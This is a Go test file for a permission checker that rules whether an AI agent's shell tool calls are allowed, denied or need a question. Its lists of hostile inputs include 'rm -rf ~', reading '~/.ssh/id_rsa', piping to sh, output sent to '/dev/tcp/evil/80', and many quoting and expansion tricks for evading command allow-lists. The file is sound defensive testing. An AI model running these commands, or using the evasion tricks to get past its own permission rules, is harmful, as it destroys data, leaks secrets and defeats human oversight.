//go:build unix

package rules_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kimi-go/kimi-go/client/rules"
)

// commands returns rules that allow the commands that people usually want to allow.
func commands() *rules.Rules {
	r := new(rules.Rules)
	for _, command := range []string{
		"git diff *", "git log *", "git grep *", "git show *", "git status", "go test *", "go vet *", "ls *", "cat *", "find *", "sort *", "rg *", "echo *",
		"printf *", "test *", "[ *", "grep *", "sed -n 5p *", "tar tf *", "head *", "make *", "uniq *", "tree *", "date *", "pytest *", "cargo test *", "npm test *",
		"awk 1 *", "xxd *", "shuf *", "gofmt *", "go build *", "fd *", "true", "pwd", "sleep *", "yq *",
	} {
		r.Allow = append(r.Allow, rules.Rule{Command: command})
	}
	return r
}

func arguments(t testing.TB, args any) json.RawMessage {
	t.Helper()
	raw, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func shell(t testing.TB, command string) json.RawMessage {
	return arguments(t, map[string]string{"command": command})
}

// attacks are scripts that must not run without a question.
var attacks = []string{
	// More than one command.
	"git diff; rm -rf ~", "git diff;rm -rf ~", "git diff && rm x", "git diff || rm x", "git diff | sh", "git diff |& tee x", "git diff & rm x", "git diff &",
	"git diff\nrm x", "rm x\ngit diff", "rm x; git diff", "git diff # x\nrm y", "git diff #\\\nrm x", "git diff\n\n\nrm x", "git diff;;rm x",
	"true && git diff && rm x", "git diff | cat | sh", "git diff | xargs rm", "git status extra", "; git diff", "&& git diff", "| git diff",
	// Substitutions and expansions.
	"git diff $(rm x)", "git diff `rm x`", "git diff \"$(rm x)\"", "git diff \"`rm x`\"", "git diff <(rm x)", "git diff >(rm x)", "git diff ${x:-$(rm y)}", "git diff $x", "git diff ${x}",
	"git diff \"$x\"", "git diff \"${x@P}\"", "git diff $((a[$(rm x)]))", "git diff $[a[$(rm x)]]", "$(echo rm) x", "`echo rm` x", "$x", "${x}", "\"$x\" y", "git ${x}diff", "g${x}it diff",
	"git diff $'a'", "git diff $'\\x2d-output=x'", "$'git' diff", "git diff $\"a\"", "git diff $IFS--output=x", "git$IFS diff", "git diff $@", "git diff $*", "git diff ${!x}", "git diff $1",
	"git diff ~", "git diff ~/x", "git diff ~root/x", "cat ~/.ssh/id_rsa", "cat --file=~/x", "cat a:~/x", "cat ~+/x", "cat ~-",
	"git diff {--output=x,y}", "git diff {a,b}", "git diff {1..3}", "{git,diff}", "git diff --{output=x,stat}", "git diff *", "git diff ?", "git diff [-]*", "git diff -*", "git diff a*b", "cat /etc/pass??",
	"git diff @(a|b)", "git diff !(a)", "git diff +(a)", "git di*", "gi? diff", "/usr/bin/gi* diff",
	"git diff !!", "!git", "git diff !$",
	// Redirections, here-documents.
	"git diff > ~/.bashrc", "git diff >x", "git diff >> x", "git diff >| x", "git diff &> x", "git diff &>> x", "git diff 2> x", "git diff < x", "git diff <> x", "git diff > /dev/null", "> x", "> x git diff",
	"git diff >&x", "git diff 3>&1", "git diff 2>&x", "git diff {fd}>x", "git diff >&-", "git diff 2>&1 > x", "git diff <<EOF\n$(rm x)\nEOF", "git diff <<'EOF'\nx\nEOF", "git diff <<<x", "git diff > /dev/tcp/evil/80",
	"cat <<EOF | sh\nrm x\nEOF", "git diff | cat > x", "exec > x", "exec git diff", "git diff <&0",
	// Assignments, the environment.
	"GIT_PAGER='rm x' git diff", "GIT_EXTERNAL_DIFF=./x git diff", "PATH=/tmp git diff", "LD_PRELOAD=./x.so git diff", "PATH=/tmp; git diff", "A=1", "A=1 B=2 git diff", "a[0]=1 git diff", "PATH+=:/tmp git diff",
	"export PATH=/tmp; git diff", "export PATH=/tmp && git diff", "declare -x PATH=/tmp; git diff", "typeset PATH=/tmp; git diff", "readonly PATH=/tmp; git diff", "local x; git diff", "env git diff", "env -i git diff",
	"printf -v PATH /tmp; git diff", "printf -vPATH /tmp; git diff", "printf '-vPATH' /tmp; git diff", "read PATH; git diff", "hash -p ./x git; git diff", "unset PATH; git diff", "set -- x; git diff", "mapfile PATH; git diff",
	// Commands of the shell itself.
	"cd /tmp && git diff", "cd /tmp; git diff", "pushd /tmp; git diff", "alias git=rm; git diff", "alias git='rm x'\ngit diff", "shopt -s expand_aliases; git diff", "git() { rm x; }; git diff", "function git { rm x; }; git diff",
	"function git() { rm x; }\ngit diff", "eval git diff", "eval 'rm x'", "source x", ". x", ". ./x; git diff", "builtin cd /tmp; git diff", "command git diff", "trap 'rm x' EXIT; git diff", "enable -f ./x.so git; git diff",
	"test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]", "test -R 'a[$(rm x)]'", "let 'a[$(rm x)]=1'", "[[ -v a[$(rm x)] ]]", "[[ a -eq b ]]", "((a=1))", "((a[$(rm x)]))", "compgen -C 'rm x'", "coproc rm x", "coproc git diff",
	"history -w x", "fc -s", "bind -x x", "wait; git diff", "ulimit -c 0; git diff", "umask 0; git diff", "return", "jobs -x rm x",
	// Compound commands.
	"(git diff)", "(rm x)", "{ git diff; }", "{ rm x; }", "if git diff; then rm x; fi", "if rm x; then git diff; fi", "while git diff; do rm x; done", "until git diff; do :; done", "for x in a; do git diff; done",
	"for ((;;)); do git diff; done", "case x in x) git diff;; esac", "case $(rm x) in x) git diff;; esac", "select x in a; do git diff; done", "time git diff", "time -p git diff", "! git diff", "! rm x",
	// Other programs with that name, and other words.
	"./git diff", "/tmp/git diff", "../git diff", "bin/git diff", "git\tdifftool", "gitdiff", "GIT diff", "git  -c core.pager=x diff", "git -c core.pager=x diff", "git --exec-path=. diff", "git -C /tmp diff", "git -p diff",
	"git --git-dir=/tmp diff", "git --no-pager diff", "git 'diff --output=x'", "'git diff'", "git\\ diff", "g\\it diff --output=x", "\"git\" \"push\"", "git push", "git diff-files", "gіt diff", "git\u00a0diff", "git\u2003diff", "git diff\u00a0x", "gi\u200bt diff",
	"git diff x\u2028y", "''git push", "'' git diff", "\"\"", "git di\"\"ff-index", "git diff\u0085rm",
	// Texts that the parser and bash might read in different ways.
	"git diff\r\nrm x", "git diff\r", "git diff\x00; rm x", "git\x00 diff", "git diff \\\n--output=x", "git \\\ndiff", "git diff \xff", "git diff \ufffd", "git diff\x0brm", "git diff\x0crm", "git diff \x1b[2K", "git diff \x7f",
	"git diff 'x", "git diff \"x", "git diff (", "git diff )", "git diff $(", "git diff `", "git diff ${", "git diff &&", "git diff |", "git diff <<EOF", "git diff }", "fi", "git diff; }", "((", "git diff\\", strings.Repeat("(", 1<<20),
	strings.Repeat("(", 60000), strings.Repeat("$(", 30000), strings.Repeat("((", 900), strings.Repeat("{ ", 1900), strings.Repeat("if ", 20000), strings.Repeat("! ", 30000), "git diff " + strings.Repeat("x", 1<<17), "", " ", "\n", "#", "# git diff",
	// A parent folder.
	"cat ..", "cat ../x", "cat src/../../x", "cat src/..", "cat --file=../x", "cat -f../x", "cat a:../x", "cat '../x'", "cat \"../x\"", "git diff --no-index ../a ../b", "cat ./../x", "cat x/../y", "cat HEAD:../x", "cat x,..,y",
	// Options that run programs or write files.
	"git diff --output=x", "git diff --output x", "git diff '--output=x'", "git diff \"--output\"=x", "git diff --out\"put\"=x", "git diff --outp=x", "git diff --o=x", "git diff --ext-diff", "git diff --ext", "git diff --textconv",
	"git log --output=x", "git log --outpu=x", "git grep -O x", "git grep -Ovim x", "git grep -nO x", "git grep --open-files-in-pager=x y", "git grep --open x", "git show --output=x", "git log -p --ext-diff",
	"go test -exec ./x", "go test --exec ./x", "go test -exec=./x ./...", "go test -toolexec=./x", "go test -o x", "go test -test.cpuprofile=x", "go test -args -test.trace=x", "go test -C /tmp", "go test -coverprofile x",
	"go vet -vettool=./x", "go build -toolexec ./x", "go build -o x", "go build --ldflags=-extld=./x", "go test -modfile=x", "go test -overlay=x",
	"find . -delete", "find . -exec rm {} ;", "find . -exec rm '{}' ';'", "find . -execdir rm x +", "find . -ok rm x", "find . -okdir rm x", "find . -fprint x", "find . -fprintf x y", "find . -fls x", "find . -fprint0 x", "find . '-delete'",
	"sort -o x y", "sort -ox y", "sort -no x", "sort y -o x", "sort --output=x", "sort --outp x", "sort --o=x", "sort --compress-program=./x", "sort --comp=./x", "rg --pre ./x y", "rg --pre=./x y", "rg --hostname-bin=./x y",
	"tar tf x --to-command=./x", "tar tf x --to-c=./x", "tar tf x -I ./x", "tar tf x -I./x", "tar tf x --checkpoint-action=exec=./x", "tar tf x --checkpoint-act=exec=./x", "tar tf x --use-compress-program=./x", "tar tf x -F ./x",
	"sed -n 5p -i x", "sed -n 5p -ni x", "sed -n 5p --in-place x", "sed -n 5p --in x", "sed -n 5p -e '1e rm'", "sed -n 5p -f x", "sed -n '5p;e rm' x", "sed -n '1w x'", "awk 'BEGIN{system(\"rm x\")}'", "awk 1 -f x", "awk 1 -i inplace x",
	"make SHELL=./x", "make 'SHELL=./x'", "make -f x", "make -C /tmp", "make --eval=x", "make --ev x", "uniq a b", "xxd a b", "xxd -r a", "tree -o x", "date -s x", "date --set=x", "shuf -o x", "shuf --output=x",
	"pytest -p x", "pytest -c x", "pytest --basetemp=src", "cargo test --config x", "npm test --script-shell=./x", "gofmt -w x", "fd -x rm", "fd --exec rm", "yq -i x",
}

func TestAttacks(t *testing.T) {
	if len(attacks) < 150 {
		t.Errorf("only %d attacks", len(attacks))
	}
	r := commands()
	dir := t.TempDir()
	for _, tool := range []string{"Bash", "Shell"} {
		for _, command := range attacks {
			args := shell(t, command)
			if d := r.Decide(tool, args, dir); d.Verdict == rules.Allow {
				t.Errorf("%s %.100q is allowed by %v", tool, command, d.Rule)
			}
		}
	}
}

// safe are scripts that must run without a question. Otherwise the rules would be useless.
var safe = []string{
	"git diff", "git diff --stat", "git diff HEAD~3..HEAD -- src", "git diff main..dev", "git diff main...dev", "git log --oneline -n 5", "git log -1 --format='%h %s'", "git status", " git status ", "git status\n", "git log HEAD^ -- 'a b'",
	"git status; git diff", "git status && git diff", "git status || true", "git log --oneline | head -5", "git diff 2>&1", "git diff --stat 2>&1 | head -20", "git status\ngit diff", "git diff # what has changed", "\"git\" 'diff'", "git di'ff'",
	"go test ./...", "go test -v -race -count=1 -run 'TestA|TestB' ./client/...", "go vet ./...", "go build ./cmd/x", "grep -rn 'foo.*bar' src", "grep -n \"a\\.b\" x", "rg -n --glob '*.go' foo", "cat README.md", "ls -la src", "find . -name '*.go'",
	"find . -name '*.go' -type f | sort -u | head", "echo 'rm -rf ~; $(x) `y`'", "echo \"it's\"", "printf '%s\\n' a", "test -f x && cat x", "[ -d src ] && ls src", "sed -n 5p README.md", "tar tf x.tgz", "make test", "uniq x", "sort -u x", "date +%s", "pwd",
	"echo 'größer'", "git log --author=me@example.com --since=2.weeks", "git log -S 'foo' src", "git show HEAD~1:src/a.go", "sleep 1",
}

func TestSafe(t *testing.T) {
	r := commands()
	dir := t.TempDir()
	for _, command := range safe {
		if d := r.Decide("Bash", shell(t, command), dir); d.Verdict != rules.Allow || d.Rule == nil {
			t.Errorf("%q: %+v", command, d)
		}
	}
}

// A denied command is found wherever it is in a script. If it may be hidden, the verdict is ask, even if a rule allows
// it.
func TestDenied(t *testing.T) {
	r := &rules.Rules{
		Deny:  []rules.Rule{{Command: "rm *", Reason: "use git clean -n first"}, {Command: "git push * --force"}, {Command: "shutdown"}},
		Allow: []rules.Rule{{Tool: "Bash"}},
	}
	dir := t.TempDir()
	for _, command := range []string{
		"rm x", "rm", "rm -rf ~", "/bin/rm x", "./rm x", "r\"\"m x", "r''m x", "\\rm x", "r\\m x", "'rm' x", "\"rm\" x", "$'rm' x", "$'\\x72m' x", "$'\\162\\155' x", "$'\\u0072m' x", "RM x", "rm.exe x", "r\\\nm x",
		"ls; rm x", "ls && rm x", "ls | rm x", "ls & rm x", "ls\nrm x", "(rm x)", "{ rm x; }", "! rm x", "time rm x", "coproc rm x", "if true; then rm x; fi", "while rm x; do :; done", "for x in $(rm y); do :; done", "case x in x) rm y;; esac",
		"f() { rm x; }; f", "echo $(rm x)", "echo `rm x`", "echo \"$(rm x)\"", "echo <(rm x)", "echo ${x:-$(rm y)}", "echo $((a[$(rm x)]))", "((a[$(rm x)]))", "[[ -v a[$(rm x)] ]]", "x=$(rm y)", "declare x=$(rm y)", "export x=`rm y`", "cat <<EOF\n$(rm x)\nEOF",
		"cat > $(rm x)", "let a[$(rm x)]=1", "echo ${a[$(rm x)]}", "X=1 rm x", "> y rm x",
		"sh -c 'rm x'", "bash -c 'rm x'", "bash -c \"rm x\"", "bash -ec 'ls; rm x'", "/bin/sh -c 'rm x'", "bash -c 'bash -c \"rm x\"'", "sh -c 'eval \"rm x\"'", "bash <<EOF\nrm x\nEOF", "bash <<'EOF'\nrm x\nEOF", "bash <<< 'rm x'", "sh -c rm", "zsh -c 'rm x'", "busybox sh -c 'rm x'",
		"eval rm x", "eval 'rm x'", "eval r m x; eval 'r''m x'", "env rm x", "env -i A=1 rm x", "env -u A rm x", "env -S 'rm x'", "env -S'rm x'", "env --split-string='rm x'", "xargs rm", "ls | xargs rm", "ls | xargs -n1 rm -rf", "xargs -I{} rm {}", "sudo rm x", "sudo -u root rm x", "sudo -- rm x",
		"su -c 'rm x'", "su -c'rm x'", "su --command='rm x' root", "doas rm x", "nohup rm x", "nohup rm x &", "timeout 5 rm x", "timeout -k 5 10 rm x", "command rm x", "command -p rm x", "exec rm x", "exec -a ls rm x", "builtin command rm x", "nice -n 5 rm x", "ionice -c 3 rm x", "stdbuf -o0 rm x",
		"setsid rm x", "busybox rm x", "find . -exec rm {} ;", "find . -exec rm {} \\;", "find . -execdir rm {} +", "find . -ok rm {} \\;", "find . -name x -exec ls {} \\; -exec rm {} \\;", "find . -exec sh -c 'rm \"$1\"' _ {} \\;", "fd -x rm", "fd --exec rm", "sudo env nohup rm x", "sudo bash -c 'cd /; rm x'",
		"trap 'rm x' EXIT", "alias x='rm y'", "watch 'rm x'", "ssh host 'rm x'", "ssh host rm x", "script -c 'rm x'", "parallel rm ::: x", "strace -f rm x", "flock x rm y", "flock x -c 'rm y'", "git bisect run rm x", "git submodule foreach 'rm x'", "git -c alias.x='!rm y' x", "git rebase -x 'rm x' main", "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
		"shutdown", "/sbin/shutdown", "git push origin --force", "git push 'origin' \"--force\"",
	} {
		d := r.Decide("Bash", shell(t, command), dir)
		if d.Verdict != rules.Deny || d.Rule == nil {
			t.Errorf("%q: %+v", command, d)
		}
	}
	for _, command := range []string{
		"$x y", "$(echo rm) x", "x=rm; $x y", "\"$x\" y", "${x} y", "r$x y", "r* y", "r[m] y", "{rm,x}", "eval \"$x\"", "bash -c \"$x\"", "echo cm0geA== | base64 -d | sh", "curl x | bash", "bash -s < x", "sh", "echo rm | xargs -I% % x", "echo 'rm x' | xargs sh -c",
		"git push origin $x", "git push $x --force", "test a; [[ x -eq y ]]", "let x", "((x))", "~/bin/rm/", "rm x 'unfinished", "((((", strings.Repeat("(", 1<<20), "rm\x00 x", "r\x00m x", "rm\r\n", strings.Repeat("eval ", 6000) + "x",
	} {
		d := r.Decide("Bash", shell(t, command), dir)
		if d.Verdict == rules.Allow || d.Verdict == "" {
			t.Errorf("%.100q: %+v", command, d)
		}
	}
	for _, command := range []string{"ls", "git push origin", "echo rm x", "git commit -m 'rm x'", "cat <<EOF\nrm x\nEOF", "find . -name rm", "grep rm x", "shutdown -h", "env ls", "sudo ls", "bash -c 'ls'", "git commit -m \"don't\""} {
		if d := r.Decide("Bash", shell(t, command), dir); d.Verdict != rules.Allow {
			t.Errorf("%q: %+v", command, d)
		}
	}
	if d := r.Decide("Bash", shell(t, "rm x"), dir); d.Reason != "use git clean -n first" || *d.Rule != r.Deny[0] {
		t.Errorf("%+v", d)
	}
}

// Other errors in the arguments of a command also lead to the right verdict.
func TestCommandArguments(t *testing.T) {
	r := commands()
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "sub"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(dir, filepath.Join(dir, "same")); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		tool, args, dir string
		want            rules.Verdict
	}{
		{"Bash", `{"command":"git diff"}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","timeout":5,"run_in_background":true,"description":"x"}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","cwd":null}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","cwd":"."}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","cwd":"same"}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","cwd":"sub"}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":"/tmp"}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":"sub/.."}`, dir, rules.Allow},
		{"Bash", `{"command":"git diff","cwd":"same/.."}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":".."}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":""}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":"~"}`, dir, ""},
		{"Bash", `{"command":"git diff","cwd":1}`, dir, ""},
		{"Shell", `{"command":"git diff","cwd":"."}`, dir, ""},
		{"Bash", `{"command":"git diff","env":{"GIT_PAGER":"x"}}`, dir, ""},
		{"Bash", `{"command":"rm x","command":"git diff"}`, dir, ""},
		{"Bash", `{"command":"git diff","command":"rm x"}`, dir, ""},
		{"Bash", `{"command":"git diff","Command":"rm x"}`, dir, ""},
		{"Bash", `{"Command":"git diff"}`, dir, rules.Ask},
		{"Bash", `{"command":"git diff","command":"git diff"}`, dir, ""},
		{"Bash", `{"command":["git diff"]}`, dir, rules.Ask},
		{"Bash", `{"command":null}`, dir, rules.Ask},
		{"Bash", `{}`, dir, rules.Ask},
		{"Bash", `[]`, dir, rules.Ask},
		{"Bash", `"git diff"`, dir, rules.Ask},
		{"Bash", ``, dir, rules.Ask},
		{"Bash", `{"command":"git diff"`, dir, rules.Ask},
		{"Bash", `{"command":"git diff"} {}`, dir, rules.Ask},
		{"Bash", `{"command":"git diff \ud800"}`, dir, rules.Ask},
		{"Bash", `{"command":"git diff"}`, "", rules.Allow},
		{"Bash", `{"command":"git diff","cwd":"."}`, "", ""},
		{"Bash", `{"command":"git diff","cwd":"/"}`, "", ""},
		{"Bash", `{"command":"git diff","cwd":"."}`, "relative", ""},
		{"bash", `{"command":"git diff"}`, dir, ""},
		{"run", `{"command":"git diff"}`, dir, ""},
		{"mcp__x__Bash", `{"command":"git diff"}`, dir, ""},
		{"", `{"command":"git diff"}`, dir, ""},
	} {
		if d := r.Decide(tt.tool, json.RawMessage(tt.args), tt.dir); d.Verdict != tt.want {
			t.Errorf("%s %s in %q: %+v, want %q", tt.tool, tt.args, tt.dir, d, tt.want)
		}
	}
}
